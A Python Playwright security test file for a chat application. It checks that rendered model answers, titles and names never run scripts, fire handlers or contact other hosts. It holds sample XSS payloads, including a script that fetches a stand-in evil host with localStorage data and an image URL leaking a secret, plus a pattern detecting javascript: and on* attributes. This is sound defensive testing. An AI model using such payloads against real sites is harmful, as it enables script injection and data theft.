"""D01, D04, D05: content that would like to be a script, or to tell another host something, in a real browser."""

import re
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest
from playwright.async_api import Browser, expect

from tests.rig.provider import running_provider
from tests.rig.server import Server, running_server
from tests.security.payloads import ALL, EVIL, EXFILTRATING, HIT, SHORT

from .people import EMAIL, Person, person

BATCH = 100
PAGES = ("/settings/account", "/settings/keys", "/search?q=script")
RENDER = """async (texts) => {
  const FORBIDDEN = 'script,iframe,object,embed,link,meta,base,style,video,audio,source,form,svg image,template';
  const inside = (element) => (element.shadowRoot ? deep(element.shadowRoot) : []);
  const deep = (root) => [...root.querySelectorAll('*')].flatMap((element) => [element, ...inside(element)]);
  const TYPES = ['mouseover', 'pointerenter', 'focus', 'toggle', 'error', 'load', 'animationstart', 'click'];
  const wrong = [];
  // A link that is followed opens a tab, behind which this page would be drawn once a second.
  const stop = (event) => event.preventDefault();
  addEventListener('click', stop, true);
  for (const [index, text] of texts.entries()) {
    for (const live of index % 6 ? [false] : [false, true]) {
      const element = Object.assign(document.createElement('k-markdown'), { text: live ? '' : text, live });
      document.body.append(element);
      for (let end = 11; live && end < text.length + 11; end += 11) {
        element.text = text.slice(0, end);
        await element.updateComplete;
      }
      element.live = false;
      await element.updateComplete;
      const inner = element.shadowRoot.querySelector('.document');
      const found = inner.querySelector(FORBIDDEN);
      if (found) wrong.push(found.tagName + ' from ' + text);
      for (const node of deep(inner)) {
        for (const { name, value } of node.attributes) {
          if (/^on/i.test(name) || /^\\s*(javascript|vbscript|data:text)/i.test(value)) wrong.push(`${name}: ${text}`);
        }
        for (const type of TYPES) node.dispatchEvent(new MouseEvent(type, { cancelable: true, composed: true }));
      }
      element.remove();
    }
  }
  removeEventListener('click', stop, true);
  await new Promise(requestAnimationFrame);
  return { wrong, hit: window.hit };
}"""
SETTLED = """async () => {
  for (let frames = 0; frames < 20; frames += 1) await new Promise(requestAnimationFrame);
}"""
SEND = """async ([method, path, body]) => {
  const headers = { 'content-type': 'application/json' };
  const reply = await fetch(path, { method, headers, body: JSON.stringify(body) });
  return [reply.status, reply.status === 204 ? {} : await reply.json()];
}"""


class Watched(Person):
    """A person whose browser tells of dialogs, and of everything it asks other hosts for."""

    def watch(self, base: str) -> None:
        self.dialogs: list[str] = []
        self.elsewhere: list[str] = []
        self.page.on("dialog", lambda dialog: self.dialogs.append(dialog.message))
        self.page.on("request", lambda request: self._note(request.url, base))

    def _note(self, url: str, base: str) -> None:
        if not url.startswith((base, "data:", "blob:")):
            self.elsewhere.append(url)

    async def send(self, method: str, path: str, body: Any) -> tuple[int, Any]:
        status, answer = await self.page.evaluate(SEND, [method, path, body])
        return status, answer

    async def assert_untouched(self) -> None:
        assert await self.page.evaluate("window.hit") is None
        assert self.dialogs == []
        assert self.elsewhere == []
        assert len(self.page.context.pages) == 1


@asynccontextmanager
async def watched(browser: Browser, folder: Path) -> AsyncIterator[tuple[Watched, Server]]:
    """Somebody who is signed in to a server of their own with a provider, and is watched."""
    async with running_provider() as provider, running_server(folder) as server, person(browser) as someone:
        await server.create_user(EMAIL, admin=True)
        await server.add_provider("Sim", provider.url)
        me = Watched(someone.page, someone.complaints)
        await me.sign_in(server)
        me.watch(server.url)
        yield me, server


@pytest.mark.parametrize(
    "texts", [pytest.param(SHORT, id="once"), pytest.param(ALL, id="all", marks=pytest.mark.nightly)]
)
async def test_d01_d05_no_text_runs_or_tells(browser: Browser, tmp_path: Path, texts: tuple[str, ...]) -> None:
    """Takes half a minute: texts, whole and as they would stream, then names and titles where they are listed."""
    models = [f"m{number} {text}"[:120] for number, text in enumerate(SHORT)]
    async with (
        running_provider(also=models) as provider,
        running_server(tmp_path) as server,
        person(browser) as someone,
    ):
        await server.create_user(EMAIL, admin=True)
        await server.add_provider("Sim", provider.url)
        me = Watched(someone.page, someone.complaints)
        await me.sign_in(server)
        me.watch(server.url)
        conversation = await _ask(me, "\n\n".join(SHORT))
        await me.page.goto(f"{server.url}/c/{conversation}")
        await expect(me.answers.last).to_be_visible()
        await me.holds("customElements.get('k-markdown') !== undefined")
        await _render_all(me, texts)
        await me.assert_untouched()
        await _name_everything(me, provider.url)
        for path in (f"/c/{conversation}", *PAGES):
            reply = await me.page.goto(server.url + path)
            assert reply is not None
            assert "default-src 'none'" in reply.headers["content-security-policy"]
            await _shown(me)
            await me.assert_untouched()
        await _list_models(me, server.url)


async def _list_models(me: Watched, base: str) -> None:
    """The models, whose names a vendor chooses, below their provider and where one is chosen."""
    await me.page.goto(f"{base}/settings/providers")
    await me.page.get_by_role("button", name=re.compile(r"^Sim\b"), expanded=False).click()
    await expect(me.page.get_by_role("row", name="m0 ")).to_be_visible()
    await _shown(me)
    await me.assert_untouched()
    await me.page.goto(base)
    await me.page.get_by_role("textbox", name="Message", exact=True).focus()
    await me.page.keyboard.press("Control+Shift+M")
    await expect(me.page.get_by_role("option", name="m0 ").last).to_be_visible()
    await _shown(me)
    await me.assert_untouched()


async def _ask(me: Watched, text: str) -> str:
    """Send a question whose echo is its answer."""
    body = {"message": {"parts": [{"type": "text", "text": text}], "model": "sim/sim-echo"}}
    status, made = await me.send("POST", "/api/conversations", body)
    assert status == 202, made
    return str(made["conversation"]["id"])


async def _render_all(me: Watched, texts: tuple[str, ...]) -> None:
    for begin in range(0, len(texts), BATCH):
        outcome = await me.page.evaluate(RENDER, list(texts[begin : begin + BATCH]))
        assert outcome == {"wrong": [], "hit": None}, "\n".join(outcome["wrong"][:10])


async def _name_everything(me: Watched, endpoint: str) -> None:
    """Every payload as a title and as a workspace's name; some as the names of accounts, keys and providers."""
    taken = 0
    for number, text in enumerate(SHORT[::3]):
        title = f"{number} {text}"[:100]
        for path, body in (("/api/conversations", {"title": title}), ("/api/workspaces", {"name": title})):
            status, answer = await me.send("POST", path, body)
            assert status in (201, 422), answer
            taken += status == 201
    for number, text in enumerate(SHORT[::30]):
        named = f"{number} {text}"[:60]
        made = [
            await me.send("POST", "/api/keys", {"name": named, "scopes": ["read"]}),
            await me.send("POST", "/api/providers", {"name": named, "type": "openai", "endpoint": endpoint}),
            await me.send("PATCH", "/api/me", {"name": named}),
        ]
        taken += sum(status in (200, 201) for status, _ in made)
    assert taken > 30


async def _shown(me: Watched) -> None:
    """Wait until the page has drawn what it has to show."""
    await expect(me.page.get_by_role("main").first).to_be_visible()
    await me.page.evaluate(SETTLED)


async def test_d05_an_image_from_elsewhere_is_a_link_that_names_its_host(browser: Browser, tmp_path: Path) -> None:
    """Nothing is fetched until the person opens it; what is opened is what the placeholder says."""
    assert len(EXFILTRATING) > 100
    async with watched(browser, tmp_path) as (me, server):
        conversation = await _ask(me, f"![a chart](https://{EVIL}/chart.png?secret=1)")
        await me.page.goto(f"{server.url}/c/{conversation}")
        placeholder = me.answers.last.get_by_role("link", name="a chart")
        await expect(placeholder).to_contain_text(EVIL)
        await me.assert_untouched()
        opened: list[str] = []
        await me.page.context.route(f"https://{EVIL}/**", lambda route: _opened(route, opened))
        async with me.page.context.expect_page() as tab:
            await placeholder.click()
        await (await tab.value).wait_for_load_state()
        assert opened == [f"https://{EVIL}/chart.png?secret=1"]
        assert await (await tab.value).evaluate("window.opener") is None


async def test_d04_a_page_in_an_answer_stays_code(browser: Browser, tmp_path: Path) -> None:
    """There are no previews yet: a page that a model wrote is read, never run, and gets no frame of its own."""
    written = f"<script>top.hit = 1; fetch('https://{EVIL}/' + localStorage.length)</script><h1>A chart</h1>"
    async with watched(browser, tmp_path) as (me, server):
        conversation = await _ask(me, f"```html\n{written}\n```\n\n{written}")
        await me.page.goto(f"{server.url}/c/{conversation}")
        await expect(me.answers.last.locator("pre")).to_contain_text("A chart")
        assert [frame.url for frame in me.page.frames] == [me.page.url]
        reply = await me.page.request.get(f"{server.url}/api/conversations/{conversation}/messages")
        assert reply.headers["content-security-policy"].endswith("sandbox")
        await me.assert_untouched()


async def _opened(route: Any, opened: list[str]) -> None:
    opened.append(route.request.url)
    assert "referer" not in route.request.headers
    await route.fulfill(body="an image")


def test_d01_there_are_a_thousand() -> None:
    assert len(set(ALL)) >= 1000
    assert sum(HIT in text for text in ALL) > 700
